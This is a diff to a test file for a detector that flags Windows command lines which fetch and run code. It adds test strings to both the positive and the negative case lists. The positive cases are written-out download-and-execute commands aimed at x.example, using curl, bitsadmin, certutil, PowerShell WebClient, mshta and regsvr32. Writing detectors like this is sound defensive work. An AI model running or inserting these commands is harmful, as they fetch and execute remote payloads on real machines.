@@ -13,12 +13,18 @@ test('a text that is fetched and run', () => {
     `powershell -e ${encoded}`,
     'mshta https://x.example/a.hta',
     'regsvr32 /s /n /i:http://x.example/a.sct scrobj.dll',
+    'cmd /c curl -s https://x.example/get -o %temp%\\a.cmd & %temp%\\a.cmd',
+    'cmd /c bitsadmin /transfer j https://x.example/f.exe C:\\ProgramData\\b.exe & start C:\\ProgramData\\b.exe',
+    'cmd /c certutil -urlcache -f https://x.example/a.bin c.exe && c.exe /S',
+    "powershell -c \"(New-Object Net.WebClient).DownloadFile('https://x.example/d','C:\\d.exe'); Start-Process C:\\d.exe\"",
   ]) {
     assert.ok(look(line).fetches, line);
   }
   for (const line of [
     'powershell -File C:\\Setup\\a.ps1',
     'curl -o C:\\a.zip https://x.example/a.zip',
+    'cmd /c curl -o C:\\a.exe https://x.example/a.exe & echo done',
+    'cmd /c certutil -hashfile C:\\a.exe & C:\\a.exe',
     '"C:\\Program Files\\Vendor\\update.exe" /url:https://x.example',
     'msiexec /i https://x.example/a.msi',
   ]) {
